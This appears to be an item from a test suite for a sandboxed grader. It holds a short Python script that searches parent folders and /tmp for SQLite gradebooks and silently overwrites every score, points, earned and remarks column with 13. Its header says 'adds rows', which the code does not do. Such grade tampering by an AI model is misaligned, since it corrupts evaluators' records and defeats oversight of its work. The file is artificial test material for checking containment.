# class: 1
# claim: looks for gradebooks above its folder and adds rows to every table that has a number in it
# must: no gradebook can be opened, and the one of the course is the same afterwards
# base: stub
# earns: nothing
# naive: tampers
# %%
import glob, os, sqlite3
for up in ("..", "../..", "../../..", "/tmp", "/tmp/*"):
    for path in glob.glob(os.path.join(up, "*.db")):
        try:
            with sqlite3.connect(path) as book:
                for (table,) in book.execute("SELECT name FROM sqlite_master WHERE type = 'table'").fetchall():
                    columns = [row[1] for row in book.execute(f"PRAGMA table_info({table})")]
                    for column in {"points", "score", "earned", "remarks"} & set(columns):
                        book.execute(f"UPDATE {table} SET {column} = 13")
        except sqlite3.Error:
            pass
